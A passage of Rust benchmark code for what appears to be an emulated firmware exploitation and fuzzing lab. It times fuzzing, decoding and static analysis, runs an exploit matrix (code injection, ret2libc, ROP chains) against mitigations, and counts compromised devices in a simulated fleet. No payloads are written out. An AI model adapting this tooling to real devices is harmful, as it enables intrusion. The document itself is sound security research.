    let pooled_allocs = allocs_so_far() - a0;

    // Resolver-cache ablation. The fleet fast path is a warm cache hit
    // replayed into a pooled buffer: one full recursion fills the
    // cache, then every later query is a hashed lookup + copy. The
    // alloc arm serves the same hits into a fresh Vec per query; the
    // cache-off arm expires the entry before every query so each one
    // walks the whole root → TLD → authoritative chain.
    let resolver_queries = reps * 64;
    let (mut net, _) = cml_netsim::example_internet();
    let mut resolver = cml_netsim::RecursiveResolver::new(0x5EED, 64);
    let rq = Message::query(
        0x3111,
        Question::new(
            Name::parse("telemetry.vendor.example").expect("valid"),
            RecordType::A,
        ),
    )
    .encode()
    .expect("encodes");
    let mut rbuf = Vec::new();
    assert!(
        resolver.handle_query_into(&mut net, &rq, &mut rbuf),
        "the ablation name resolves"
    );
    resolver.clear_trace();
    for _ in 0..4 {
        // Warm-up sizes the output buffer before the measured window.
        resolver.handle_query_into(&mut net, &rq, &mut rbuf);
    }
    let a0 = allocs_so_far();
    let t0 = Instant::now();
    for _ in 0..resolver_queries {
        resolver.handle_query_into(&mut net, &rq, &mut rbuf);
        std::hint::black_box(rbuf.as_slice());
    }
    let resolver_cached_wall_secs = t0.elapsed().as_secs_f64();
    let resolver_cached_allocs = allocs_so_far() - a0;

    let a0 = allocs_so_far();
    let t0 = Instant::now();
    for _ in 0..resolver_queries {
        let resp = resolver.handle_query(&mut net, &rq).expect("warm hit");
        std::hint::black_box(&resp);
    }
    let resolver_alloc_wall_secs = t0.elapsed().as_secs_f64();
    let resolver_alloc_allocs = allocs_so_far() - a0;

    // The record's TTL is 300s; stepping the event clock past it before
    // each query forces a miss, so this arm pays recursion + expiry
    // churn — what every query would cost without the cache.
    let resolver_uncached_queries = reps;
    let t0 = Instant::now();
    for _ in 0..resolver_uncached_queries {
        let due = resolver.now() + 301 * cml_netsim::TICKS_PER_SEC;
        resolver.advance_to(due);
        resolver.handle_query_into(&mut net, &rq, &mut rbuf);
        std::hint::black_box(rbuf.as_slice());
        resolver.clear_trace();
    }
    let resolver_uncached_wall_secs = t0.elapsed().as_secs_f64();

    // Decode-table ablation: walking each ISA's vulnerable `.text` end
    // to end with the declarative-table decoder vs. the retained
    // hand-rolled reference decoder. Interleaved per trial like the
    // dispatch ablation so machine-speed phases hit both arms equally.
    let decode_table: Vec<(Arch, f64, f64, u64)> = Arch::ALL
        .iter()
        .map(|&arch| {
            use cml_image::SectionKind;
            let fw = Firmware::build(FirmwareKind::OpenElec, arch);
            let text = fw
                .image()
                .section(SectionKind::Text)
                .expect("firmware has .text")
                .bytes()
                .to_vec();
            let mut walls = [0.0f64; 2];
            let mut insns = 0u64;
            for _ in 0..trials {
                for (slot, pass) in [
                    (0usize, decode_pass(arch, &text, true)),
                    (1, decode_pass(arch, &text, false)),
                ] {
                    walls[slot] += pass.0;
                    insns = pass.1;
                }
            }
            (arch, walls[0], walls[1], insns)
        })
        .collect();

    // Fuzzing ablations: the same fixed-seed campaign three ways —
    // coverage-on fork (the production configuration), coverage-off
    // (bitmap cost), reboot-per-exec (snapshot advantage inside the
    // fuzz loop, which also forfeits the warm dirty-page working set).
    let fuzz_execs = trials * 64;
    let base_cfg = FuzzConfig::new(FirmwareKind::OpenElec, Arch::X86, 0x5EED, fuzz_execs, 1);
    // Warm-up, like the template/pool windows above: the first campaign
    // on a thread builds and boots the firmware; a throwaway run leaves
    // the fork server cached so the measured wall is campaign
    // throughput, not boot cost.
    cml_fuzz::fuzz(&base_cfg);
    let t0 = Instant::now();
    let report = cml_fuzz::fuzz(&base_cfg);
    let fuzz_wall_secs = t0.elapsed().as_secs_f64();
    assert_eq!(
        report.total_execs(),
        fuzz_execs,
        "campaign spends its budget"
    );

    let mut reboot = base_cfg;
    reboot.reboot_per_exec = true;
    let t0 = Instant::now();
    cml_fuzz::fuzz(&reboot);
    let fuzz_reboot_wall_secs = t0.elapsed().as_secs_f64();

    // RISC-V fuzzing throughput: the same fixed-seed campaign on the
    // RV32IC target, warmed the same way as the x86 arm.
    let riscv_fuzz_execs = trials * 64;
    let riscv_cfg = FuzzConfig::new(
        FirmwareKind::OpenElec,
        Arch::Riscv,
        0x5EED,
        riscv_fuzz_execs,
        1,
    );
    cml_fuzz::fuzz(&riscv_cfg);
    let t0 = Instant::now();
    let riscv_report = cml_fuzz::fuzz(&riscv_cfg);
    let riscv_fuzz_wall_secs = t0.elapsed().as_secs_f64();
    assert_eq!(
        riscv_report.total_execs(),
        riscv_fuzz_execs,
        "riscv campaign spends its budget"
    );

    // Coverage-hook arm: one fixed input set (the benign seeds plus
    // deterministic mutants of them), replayed with the map armed and
    // disarmed. Same parses, same forks — only the bitmap differs.
    let replay: Vec<Vec<u8>> = {
        let mut h = cml_fuzz::Harness::new(FirmwareKind::OpenElec, Arch::X86, 0x5EED, true, false);
        let seeds = h.seed_inputs();
        let mut m = cml_fuzz::Mutator::new(0x5EED);
        let mut out = Vec::new();
        let mut inputs = seeds.clone();
        for i in 0..61usize {
            m.mutate(&seeds[i % seeds.len()], None, &mut out);
            inputs.push(out.clone());
        }
        inputs
    };
    let cov_replay_execs = trials * replay.len() as u64;
    // Interleaved like the dispatch ablation: one on-trial then one
    // off-trial per round, so a machine-speed phase hits both arms
    // equally instead of skewing whichever arm ran through it.
    let mut cov_wall = [0.0f64; 2];
    let mut cov_harness = [
        cml_fuzz::Harness::new(FirmwareKind::OpenElec, Arch::X86, 0x5EED, true, false),
        cml_fuzz::Harness::new(FirmwareKind::OpenElec, Arch::X86, 0x5EED, false, false),
    ];
    let mut cov_acc = [
        cml_fuzz::CoverageAccum::new(),
        cml_fuzz::CoverageAccum::new(),
    ];
    for _ in 0..trials {
        for slot in 0..2 {
            let (h, acc) = (&mut cov_harness[slot], &mut cov_acc[slot]);
            let t0 = Instant::now();
            for input in &replay {
                std::hint::black_box(h.exec(input, acc));
            }
            cov_wall[slot] += t0.elapsed().as_secs_f64();
        }
    }

    Ablations {
        trials,
        fresh_insns: fresh_insns / trials.max(1),
        forked_insns: forked_insns / trials.max(1),
        fresh_wall_secs,
        forked_wall_secs,
        ir_wall_secs: dispatch[0],
        block_wall_secs: dispatch[1],
        insn_wall_secs: dispatch[2],
        dispatch_insns,
        rebuild_wall_secs,
        template_wall_secs,
        rebuild_allocs_per_build: rebuild_allocs / reps.max(1),
        template_allocs_per_build: template_allocs / reps.max(1),
        pooled_queries: reps,
        alloc_wall_secs,
        pooled_wall_secs,
        alloc_allocs_per_query: alloc_allocs / reps.max(1),
        pooled_allocs_per_query: pooled_allocs / reps.max(1),
        resolver_queries,
        resolver_cached_wall_secs,
        resolver_alloc_wall_secs,
        resolver_uncached_queries,
        resolver_uncached_wall_secs,
        resolver_cached_allocs_per_query: resolver_cached_allocs / resolver_queries.max(1),
        resolver_alloc_allocs_per_query: resolver_alloc_allocs / resolver_queries.max(1),
        fuzz_execs,
        fuzz_wall_secs,
        fuzz_reboot_wall_secs,
        cov_replay_execs,
        cov_on_wall_secs: cov_wall[0],
        cov_off_wall_secs: cov_wall[1],
        decode_table,
        riscv_fuzz_execs,
        riscv_fuzz_wall_secs,
    }
}

/// One timed decode pass over `bytes`: sequential decode from offset 0,
/// stepping past undecodable windows at the ISA's alignment granule.
/// Returns `(wall_secs, instructions_decoded)`.
fn decode_pass(arch: Arch, bytes: &[u8], table: bool) -> (f64, u64) {
    type Decoder<I, E> = fn(&[u8]) -> Result<(I, usize), E>;
    fn walk<I, E>(bytes: &[u8], min_step: usize, dec: Decoder<I, E>) -> (f64, u64) {
        let mut off = 0usize;
        let mut n = 0u64;
        let t0 = Instant::now();
        while off < bytes.len() {
            match dec(&bytes[off..]) {
                Ok((insn, len)) => {
                    std::hint::black_box(&insn);
                    off += len.max(min_step);
                    n += 1;
                }
                Err(_) => off += min_step,
            }
        }
        (t0.elapsed().as_secs_f64(), n)
    }
    match (arch, table) {
        (Arch::X86, true) => walk(bytes, 1, x86::decode),
        (Arch::X86, false) => walk(bytes, 1, x86::decode_reference),
        (Arch::Armv7, true) => walk(bytes, 4, cml_vm::arm::decode),
        (Arch::Armv7, false) => walk(bytes, 4, cml_vm::arm::decode_reference),
        (Arch::Riscv, true) => walk(bytes, 2, cml_vm::riscv::decode),
        (Arch::Riscv, false) => walk(bytes, 2, cml_vm::riscv::decode_reference),
    }
}

/// A machine running a daemon_init-shaped x86 hot loop (~300k executed
/// instructions): `mov ecx, 50000; loop: inc eax ×4; dec ecx; jnz loop`
/// then `exit(0)`.
fn dispatch_loop_machine() -> Machine {
    use cml_image::{Perms, SectionKind};
    let code = x86::Asm::new()
        .mov_r_imm(X86Reg::Ecx, 50_000)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .dec_r(X86Reg::Ecx)
        .jnz_rel8(-7)
        .xor_rr(X86Reg::Eax, X86Reg::Eax)
        .mov_r8_imm(X86Reg::Eax, 1)
        .int80()
        .finish();
    let mut m = Machine::new(cml_image::Arch::X86);
    m.mem_mut()
        .map(".text", Some(SectionKind::Text), 0x1000, 0x1000, Perms::RX);
    m.mem_mut()
        .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
    m.mem_mut().poke(0x1000, &code).expect("code fits");
    m.regs_mut().set_pc(0x1000);
    m.regs_mut().set_sp(0x8800);
    m
}

/// `--bench-smoke`: a tiny-iteration ablation run compared against the
/// newest committed `BENCH_<n>.json`. Fails (exit 1) when the snapshot
/// advantage collapsed by more than 2x in instruction terms, or when
/// the template-relocation wall advantage collapsed by more than 2x;
/// skips with a note (exit 0) when no baseline file exists yet. A
/// baseline predating a given record (e.g. one without
/// `template_vs_rebuild`) skips that comparison only.
fn smoke_vs_baseline() -> i32 {
    let current = run_ablations(SMOKE_TRIALS);
    println!("{}", current.describe());
    let Some((path, doc)) = newest_baseline_doc() else {
        println!("bench-smoke: no committed BENCH_*.json with ablations — skipping comparison");
        return 0;
    };
    let mut failed = false;

    let ratio = current.insn_ratio();
    match json_number_after(&doc, "\"snapshot_vs_reboot\"", "\"insn_ratio\":") {
        Some(baseline) => {
            println!(
                "bench-smoke: snapshot insn ratio {ratio:.1}x vs {baseline:.1}x baseline ({path})"
            );
            if ratio < baseline / 2.0 {
                println!("bench-smoke: FAIL — snapshot advantage regressed by more than 2x");
                failed = true;
            }
        }
        None => println!("bench-smoke: baseline {path} has no snapshot_vs_reboot — skipping"),
    }

    let ratio = current.template_wall_ratio();
    match json_number_after(&doc, "\"template_vs_rebuild\"", "\"wall_ratio\":") {
        Some(baseline) => {
            println!(
                "bench-smoke: template wall ratio {ratio:.1}x vs {baseline:.1}x baseline ({path})"
            );
            if ratio < baseline / 2.0 {
                println!("bench-smoke: FAIL — template advantage regressed by more than 2x");
                failed = true;
            }
        }
        None => println!("bench-smoke: baseline {path} has no template_vs_rebuild — skipping"),
    }

    let qps = current.resolver_qps();
    match json_number_after(&doc, "\"resolver\"", "\"resolver_qps\":") {
        Some(baseline) => {
            println!(
                "bench-smoke: resolver {qps:.0} q/s warm cache vs {baseline:.0} baseline ({path})"
            );
            // Queries/sec across machines is noisy; fail only on an
            // order-of-magnitude collapse of the warm-hit path.
            if baseline > 0.0 && qps < baseline / 20.0 {
                println!("bench-smoke: FAIL — resolver cache throughput collapsed more than 20x");
                failed = true;
            }
        }
        None => println!("bench-smoke: baseline {path} has no resolver_qps — skipping"),
    }
    if current.resolver_cached_allocs_per_query != 0 {
        println!(
            "bench-smoke: FAIL — warm resolver hits allocate ({} allocs/query; want 0)",
            current.resolver_cached_allocs_per_query
        );
        failed = true;
    }

    if cml_vm::ir_dispatch_default() {
        let ratio = current.ir_vs_block_ratio();
        match json_number_after(&doc, "\"ir_vs_block\"", "\"wall_ratio\":") {
            Some(baseline) => {
                println!(
                    "bench-smoke: IR-vs-block wall ratio {ratio:.1}x vs {baseline:.1}x baseline ({path})"
                );
                if ratio < baseline / 2.0 {
                    println!("bench-smoke: FAIL — IR dispatch advantage regressed by more than 2x");
                    failed = true;
                }
            }
            None => println!("bench-smoke: baseline {path} has no ir_vs_block — skipping"),
        }
    } else {
        println!("bench-smoke: IR dispatch disabled (--no-ir) — skipping ir_vs_block guard");
    }

    let ratio = current.fork_vs_reboot_fuzz_ratio();
    match json_number_after(&doc, "\"fork_vs_reboot_fuzz\"", "\"wall_ratio\":") {
        Some(baseline) => {
            println!(
                "bench-smoke: fuzz fork-vs-reboot ratio {ratio:.1}x vs {baseline:.1}x baseline ({path})"
            );
            if ratio < baseline / 2.0 {
                println!("bench-smoke: FAIL — fuzz snapshot advantage regressed by more than 2x");
                failed = true;
            }
        }
        None => println!("bench-smoke: baseline {path} has no fork_vs_reboot_fuzz — skipping"),
    }

    let overhead = current.coverage_overhead_ratio();
    match json_number_after(&doc, "\"coverage_hook_overhead\"", "\"overhead_ratio\":") {
        Some(baseline) => {
            println!(
                "bench-smoke: coverage hook overhead {overhead:.2}x vs {baseline:.2}x baseline ({path})"
            );
            // Overhead is a cost (≥ ~1.0): fail when it doubles over
            // the recorded baseline, with slack for timer noise.
            if overhead > baseline.max(1.0) * 2.0 {
                println!("bench-smoke: FAIL — coverage hook overhead more than doubled");
                failed = true;
            }
        }
        None => println!("bench-smoke: baseline {path} has no coverage_hook_overhead — skipping"),
    }

    // Decode-table: per ISA, the declarative tables must stay within 4x
    // of the recorded advantage over the hand-rolled reference decoders.
    // Decode is a cold path (the predecode cache decodes each pc once
    // per generation) and the sub-millisecond smoke passes are noisy on
    // a shared 1-CPU host, so the guard is deliberately loose — it
    // exists to catch accidental table blow-up (quadratic growth, a rule
    // scan gone linear-in-rules per byte), not scheduling jitter.
    // Baselines predating the `decode_table` record skip that ISA's
    // comparison only.
    for (arch, table, hand, _) in &current.decode_table {
        let ratio = hand / table.max(1e-12);
        match json_number_after(
            &doc,
            &format!("\"isa\":\"{arch}\""),
            "\"decode_wall_ratio\":",
        ) {
            Some(baseline) => {
                println!(
                    "bench-smoke: {arch} decode table-vs-hand-rolled ratio {ratio:.2}x \
                     vs {baseline:.2}x baseline ({path})"
                );
                if ratio < baseline / 4.0 {
                    println!(
                        "bench-smoke: FAIL — {arch} decode-table advantage regressed \
                         by more than 4x"
                    );
                    failed = true;
                }
            }
            None => {
                println!("bench-smoke: baseline {path} has no {arch} decode_table — skipping")
            }
        }
    }

    // RISC-V fuzz throughput: execs/sec across machines is noisy, so
    // only an order-of-magnitude collapse fails the guard. Baselines
    // predating the `riscv_fuzz` record skip the comparison.
    let rv = current.riscv_fuzz_execs_per_sec();
    match json_number_after(&doc, "\"riscv_fuzz\"", "\"execs_per_sec\":") {
        Some(baseline) => {
            println!(
                "bench-smoke: riscv fuzz {rv:.0} execs/sec vs {baseline:.0} baseline ({path})"
            );
            if baseline > 0.0 && rv < baseline / 20.0 {
                println!("bench-smoke: FAIL — riscv fuzz throughput collapsed more than 20x");
                failed = true;
            }
        }
        None => println!("bench-smoke: baseline {path} has no riscv_fuzz — skipping"),
    }

    // Value-set analysis: a correctness smoke (the interprocedural
    // layer must still flag the unbounded copy on both ISAs), plus a
    // wall-time guard against the recorded per-arch cost. Baselines
    // predating the `vsa_wall_secs` record skip the timing comparison.
    let analysis = analysis_timings();
    let vsa_now: f64 = analysis.iter().map(|(_, _, vsa, _)| vsa).sum();
    match json_number_after(&doc, "\"analysis\"", "\"vsa_wall_secs\":") {
        Some(baseline) => {
            println!(
                "bench-smoke: VSA wall {:.4}s vs {:.4}s first-arch baseline ({path})",
                vsa_now, baseline
            );
            // Timing across machines is noisy; only a blow-up an order
            // of magnitude past the recorded cost fails the guard.
            if baseline > 0.0 && vsa_now > baseline * 20.0 {
                println!("bench-smoke: FAIL — VSA wall time blew up more than 20x");
                failed = true;
            }
        }
        None => println!("bench-smoke: baseline {path} has no vsa_wall_secs — skipping"),
    }

    // Fleet scale: a 10k-device homogeneous campaign on the fast path
    // must not collapse against the 10k rate recorded alongside the
    // headline (same scale, so fixed per-class setup costs cancel).
    // Wall-clock throughput across machines is noisy, so only an
    // order-of-magnitude collapse fails the guard.
    let smoke_spec = FleetSpec::homogeneous(10_000, 0xF1EE7);
    let smoke_fleet = run_fleet_cfg(&smoke_spec, &FleetConfig::new(1));
    let rate = smoke_fleet.devices_per_sec();
    match json_number_after(&doc, "\"fleet_scale\"", "\"smoke_devices_per_sec\":") {
        Some(baseline) => {
            println!(
                "bench-smoke: fleet {rate:.0} devices/sec (10k smoke) vs {baseline:.0} \
                 baseline ({path})"
            );
            if baseline > 0.0 && rate < baseline / 20.0 {
                println!("bench-smoke: FAIL — fleet throughput collapsed more than 20x");
                failed = true;
            }
        }
        None => println!("bench-smoke: baseline {path} has no fleet smoke rate — skipping"),
    }

    if failed {
        return 1;
    }
    println!("bench-smoke: OK");
    0
}

/// Finds the highest-numbered `BENCH_<n>.json` in the working directory
/// that contains an ablation record and returns its contents.
fn newest_baseline_doc() -> Option<(String, String)> {
    let mut best: Option<(u64, String)> = None;
    for entry in std::fs::read_dir(".").ok()?.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if let Some(n) = name
            .strip_prefix("BENCH_")
            .and_then(|s| s.strip_suffix(".json"))
            .and_then(|s| s.parse::<u64>().ok())
        {
            if best.as_ref().is_none_or(|(b, _)| n > *b) {
                best = Some((n, name));
            }
        }
    }
    let (_, path) = best?;
    let doc = std::fs::read_to_string(&path).ok()?;
    doc.contains("\"ablations\"").then_some(())?;
    Some((path, doc))
}

/// Extracts the first number following `key` after `section` in a JSON
/// document we generated ourselves (the approved dependency set has no
/// JSON parser; our own output is regular enough for a scan).
fn json_number_after(doc: &str, section: &str, key: &str) -> Option<f64> {
    let tail = &doc[doc.find(section)? + section.len()..];
    let tail = &tail[tail.find(key)? + key.len()..];
    let end = tail
        .find(|c: char| c != '.' && c != '-' && !c.is_ascii_digit())
        .unwrap_or(tail.len());
    tail[..end].parse().ok()
}

/// Runs the nine-cell exploit matrix (x86/ARM/RISC-V × none/W⊕X/W⊕X+ASLR) with
/// the VM shadow-memory sanitizer armed on the victim and prints the
/// precise overflow diagnostics each cell produces. Returns the process
/// exit code: 0 when every cell is pinpointed, 1 otherwise.
fn sanitize_matrix() -> i32 {
    let cells: [(Protections, &str); 3] = [
        (Protections::none(), "none"),
        (Protections::wxorx(), "wxorx"),
        (Protections::full(), "full"),
    ];
    let mut all_pinpointed = true;
    println!("### shadow-memory sanitizer: 9-cell exploit matrix\n");
    for arch in Arch::ALL {
        for (prot, prot_name) in cells {
            let strategy: Box<dyn ExploitStrategy> = if prot.aslr.enabled {
                Box::new(RopMemcpyChain::new(arch))
            } else if prot.wxorx {
                match arch {
                    Arch::X86 => Box::new(Ret2Libc::new()),
                    Arch::Armv7 => Box::new(ArmGadgetExeclp::new()),
                    Arch::Riscv => Box::new(RiscvGadgetSystem::new()),
                }
            } else {
                Box::new(CodeInjection::new(arch))
            };
            let lab = Lab::new(FirmwareKind::OpenElec, arch)
                .with_protections(prot)
                .with_sanitizer(true);
            let cell = format!("{arch}/{prot_name} ({})", strategy.name());
            match lab.run_exploit(strategy.as_ref()) {
                Ok(report) => match report.proxy_outcome {
                    ProxyOutcome::Crashed(ref fr)
                        if matches!(fr.fault, Fault::RedzoneViolation { .. }) =>
                    {
                        println!("{cell}: {}", fr.fault);
                    }
                    ref other => {
                        all_pinpointed = false;
                        println!("{cell}: NOT PINPOINTED — {other}");
                    }
                },
                Err(e) => {
                    all_pinpointed = false;
                    println!("{cell}: attack could not be built: {e}");
                }
            }
        }
    }
    println!();
    if all_pinpointed {
        println!("all 9 cells pinpointed by the sanitizer");
        0
    } else {
        println!("some cells escaped the sanitizer");
        1
    }
}

/// Times one full static-analysis pipeline (CFG recovery + taint pass +
/// frames + VSA + mitigation audit) per architecture over the OpenElec
/// image, plus the value-set pass alone so the interprocedural layer's
/// cost is visible separately.
fn analysis_timings() -> Vec<(Arch, f64, f64, usize)> {
    Arch::ALL
        .iter()
        .map(|&arch| {
            let firmware = Firmware::build(FirmwareKind::OpenElec, arch);
            let t0 = Instant::now();
            let report = cml_analyze::analyze(firmware.image());
            let full = t0.elapsed().as_secs_f64();

            let cfg = cml_analyze::cfg::recover(firmware.image());
            let sources = cml_analyze::taint::effective_sources(
                &cfg,
                &cml_analyze::taint::TaintConfig::default(),
            );
            let t1 = Instant::now();
            let value_sets = cml_analyze::vsa::vsa_pass(&cfg, firmware.image(), &sources);
            let vsa = t1.elapsed().as_secs_f64();
            assert!(
                value_sets
                    .iter()
                    .any(|v| v.tainted_writes().next().is_some()),
                "{arch}: VSA must see the tainted copy it is being timed on"
            );
            (arch, full, vsa, report.cfg.instructions)
        })
        .collect()
}

/// `BENCH_<n>.json` one past the highest index in the working dir
/// (never fills holes — the smoke guard baselines on the highest index,
/// so a hole-filling name would be invisible to it).
fn next_bench_path() -> String {
    let next = std::fs::read_dir(".")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|entry| {
            entry
                .file_name()
                .to_string_lossy()
                .strip_prefix("BENCH_")?
                .strip_suffix(".json")?
                .parse::<u64>()
                .ok()
        })
        .max()
        .map_or(0, |n| n + 1);
    format!("BENCH_{next}.json")
}

/// The `fleet_scale` numbers recorded in `BENCH_<n>.json`: the
/// million-device headline (weak-boot-entropy class model, shared CoW
/// boots, batched answers, streamed report) plus the three ablation
/// arms, each run at full boot entropy so every device pays a real
/// session.
struct FleetScale {
    devices: u64,
    jobs: usize,
    wall_secs: f64,
    devices_per_sec: f64,
    sessions: u64,
    compromised: u64,
    ablation_devices: u64,
    /// A 10k-device serial run — the scale the `--bench-smoke` guard
    /// replays, recorded separately because fixed setup (one session
    /// per address class) dominates at 10k and the headline rate does
    /// not transfer across scales.
    smoke_devices_per_sec: f64,
    /// Fast path at full entropy — the per-arm comparison base.
    full_entropy_wall_secs: f64,
    per_worker_forge_wall_secs: f64,
    per_device_answers_wall_secs: f64,
    materialized_wall_secs: f64,
}

impl FleetScale {
    fn forge_ratio(&self) -> f64 {
        self.per_worker_forge_wall_secs / self.full_entropy_wall_secs.max(1e-9)
    }

    fn answer_ratio(&self) -> f64 {
        self.per_device_answers_wall_secs / self.full_entropy_wall_secs.max(1e-9)
    }

    fn report_ratio(&self) -> f64 {
        self.materialized_wall_secs / self.full_entropy_wall_secs.max(1e-9)
    }

    fn describe(&self) -> String {
        format!(
            "fleet_scale: {} devices in {:.3}s ({:.0} devices/sec, {} sessions, \
             {} compromised)\n\
             fleet_scale ablations ({} devices, full boot entropy): \
             shared-CoW {:.3}s | per-worker forge {:.3}s ({:.2}x) | \
             per-device answers {:.3}s ({:.2}x) | materialized report {:.3}s ({:.2}x)",
            self.devices,
            self.wall_secs,
            self.devices_per_sec,
            self.sessions,
            self.compromised,
            self.ablation_devices,
            self.full_entropy_wall_secs,
            self.per_worker_forge_wall_secs,
            self.forge_ratio(),
            self.per_device_answers_wall_secs,
            self.answer_ratio(),
            self.materialized_wall_secs,
            self.report_ratio()
        )
    }
}

/// Times the headline campaign and the three fleet ablation arms.
fn fleet_scale_timings(jobs: usize) -> FleetScale {
    let spec = FleetSpec::homogeneous(FLEET_SCALE_DEVICES, 0xF1EE7);
    let headline = run_fleet_cfg(&spec, &FleetConfig::new(jobs));

    let smoke_spec = FleetSpec::homogeneous(10_000, 0xF1EE7);
    let smoke = run_fleet_cfg(&smoke_spec, &FleetConfig::new(1));

    let mut ab_spec = FleetSpec::homogeneous(FLEET_ABLATION_DEVICES, 0xF1EE7);
    ab_spec.cohorts[0].entropy_bits = ENTROPY_FULL;
    let base = run_fleet_cfg(&ab_spec, &FleetConfig::new(jobs));
    let per_worker = run_fleet_cfg(
        &ab_spec,
        &FleetConfig {
            jobs,
            per_worker_forge: true,
            ..FleetConfig::default()
        },
    );
    let live = run_fleet_cfg(
        &ab_spec,
        &FleetConfig {
            jobs,
            per_device_answers: true,
            ..FleetConfig::default()
        },
    );
    let materialized = run_fleet_cfg(
        &ab_spec,
        &FleetConfig {
            jobs,
            materialize: true,
            ..FleetConfig::default()
        },
    );
    assert_eq!(
        base.render(),
        per_worker.render(),
        "CoW and per-worker forges must agree before their times are comparable"
    );
    assert_eq!(
        base.render(),
        live.render(),
        "batched and per-device answers must agree before their times are comparable"
    );
    assert_eq!(
        base.render(),
        materialized.render(),
        "streamed and materialized reports must agree before their times are comparable"
    );
    FleetScale {
        devices: headline.devices,
        jobs: headline.jobs,
        wall_secs: headline.elapsed.as_secs_f64(),
        devices_per_sec: headline.devices_per_sec(),
        sessions: headline.sessions,
        compromised: headline.compromised() as u64,
        ablation_devices: FLEET_ABLATION_DEVICES,
        smoke_devices_per_sec: smoke.devices_per_sec(),
        full_entropy_wall_secs: base.elapsed.as_secs_f64(),
        per_worker_forge_wall_secs: per_worker.elapsed.as_secs_f64(),
        per_device_answers_wall_secs: live.elapsed.as_secs_f64(),
        materialized_wall_secs: materialized.elapsed.as_secs_f64(),
    }
}

fn bench_json_doc(
    jobs: usize,
    timings: &[(String, f64)],
    fleet: &cml_core::fleet::FleetReport,
    scale: &FleetScale,
    analysis: &[(Arch, f64, f64, usize)],
    ablations: &Ablations,
) -> String {
    let exps: Vec<String> = timings
        .iter()
        .map(|(id, secs)| format!("{{\"id\":\"{id}\",\"wall_secs\":{secs:.6}}}"))
        .collect();
    let ana: Vec<String> = analysis
        .iter()
        .map(|(arch, secs, vsa_secs, insns)| {
            format!(
                "{{\"arch\":\"{arch}\",\"wall_secs\":{secs:.6},\
                 \"vsa_wall_secs\":{vsa_secs:.6},\"instructions\":{insns}}}"
            )
        })
        .collect();
    let decode: Vec<String> = ablations
        .decode_table
        .iter()
        .map(|(arch, table, hand, insns)| {
            format!(
                "{{\"isa\":\"{arch}\",\"table_wall_secs\":{table:.6},\
                 \"handrolled_wall_secs\":{hand:.6},\"insns_per_pass\":{insns},\
                 \"decode_wall_ratio\":{:.3}}}",
                hand / table.max(1e-12)
            )
        })
        .collect();
    let abl = format!(
        "{{\"snapshot_vs_reboot\":{{\"trials\":{},\"fresh_insns_per_trial\":{},\
         \"forked_insns_per_trial\":{},\"insn_ratio\":{:.2},\"fresh_wall_secs\":{:.6},\
         \"forked_wall_secs\":{:.6}}},\"block_vs_insn\":{{\"trials\":{},\
         \"insns_per_trial\":{},\"block_wall_secs\":{:.6},\"insn_wall_secs\":{:.6},\
         \"wall_ratio\":{:.2}}},\"ir_vs_block\":{{\"trials\":{},\
         \"insns_per_trial\":{},\"ir_wall_secs\":{:.6},\"block_wall_secs\":{:.6},\
         \"wall_ratio\":{:.2}}},\
         \"template_vs_rebuild\":{{\"builds\":{},\"rebuild_wall_secs\":{:.6},\
         \"template_wall_secs\":{:.6},\"wall_ratio\":{:.2},\
         \"rebuild_allocs_per_build\":{},\"template_allocs_per_build\":{}}},\
         \"pooled_vs_alloc\":{{\"queries\":{},\"alloc_wall_secs\":{:.6},\
         \"pooled_wall_secs\":{:.6},\"wall_ratio\":{:.2},\
         \"alloc_allocs_per_query\":{},\"pooled_allocs_per_query\":{}}},\
         \"resolver\":{{\"queries\":{},\"cached_wall_secs\":{:.6},\
         \"resolver_qps\":{:.0},\"cached_allocs_per_query\":{},\
         \"alloc_wall_secs\":{:.6},\"alloc_ratio\":{:.2},\
         \"alloc_allocs_per_query\":{},\"uncached_queries\":{},\
         \"uncached_wall_secs\":{:.6},\"cache_off_ratio\":{:.2}}},\
         \"fuzz\":{{\"execs\":{},\"fuzz_execs_per_sec\":{:.2},\
         \"coverage_hook_overhead\":{{\"replay_execs\":{},\"on_wall_secs\":{:.6},\
         \"off_wall_secs\":{:.6},\"overhead_ratio\":{:.3}}},\
         \"fork_vs_reboot_fuzz\":{{\"fork_wall_secs\":{:.6},\
         \"reboot_wall_secs\":{:.6},\"wall_ratio\":{:.2}}}}},\
         \"decode_table\":[{}],\
         \"riscv_fuzz\":{{\"execs\":{},\"wall_secs\":{:.6},\
         \"execs_per_sec\":{:.2}}}}}",
        ablations.trials,
        ablations.fresh_insns,
        ablations.forked_insns,
        ablations.insn_ratio(),
        ablations.fresh_wall_secs,
        ablations.forked_wall_secs,
        ablations.trials,
        ablations.dispatch_insns,
        ablations.block_wall_secs,
        ablations.insn_wall_secs,
        ablations.block_vs_insn_ratio(),
        ablations.trials,
        ablations.dispatch_insns,
        ablations.ir_wall_secs,
        ablations.block_wall_secs,
        ablations.ir_vs_block_ratio(),
        ablations.pooled_queries,
        ablations.rebuild_wall_secs,
        ablations.template_wall_secs,
        ablations.template_wall_ratio(),
        ablations.rebuild_allocs_per_build,
        ablations.template_allocs_per_build,
        ablations.pooled_queries,
        ablations.alloc_wall_secs,
        ablations.pooled_wall_secs,
        ablations.pooled_wall_ratio(),
        ablations.alloc_allocs_per_query,
        ablations.pooled_allocs_per_query,
        ablations.resolver_queries,
        ablations.resolver_cached_wall_secs,
        ablations.resolver_qps(),
        ablations.resolver_cached_allocs_per_query,
        ablations.resolver_alloc_wall_secs,
        ablations.resolver_alloc_ratio(),
        ablations.resolver_alloc_allocs_per_query,
        ablations.resolver_uncached_queries,
        ablations.resolver_uncached_wall_secs,
        ablations.resolver_cache_off_ratio(),
        ablations.fuzz_execs,
        ablations.fuzz_execs_per_sec(),
        ablations.cov_replay_execs,
        ablations.cov_on_wall_secs,
        ablations.cov_off_wall_secs,
        ablations.coverage_overhead_ratio(),
        ablations.fuzz_wall_secs,
        ablations.fuzz_reboot_wall_secs,
        ablations.fork_vs_reboot_fuzz_ratio(),
        decode.join(","),
        ablations.riscv_fuzz_execs,
        ablations.riscv_fuzz_wall_secs,
        ablations.riscv_fuzz_execs_per_sec()
    );
    format!(
        "{{\"jobs\":{jobs},\"experiments\":[{}],\"analysis\":[{}],\"ablations\":{},\
         \"fleet\":{{\"devices\":{},\
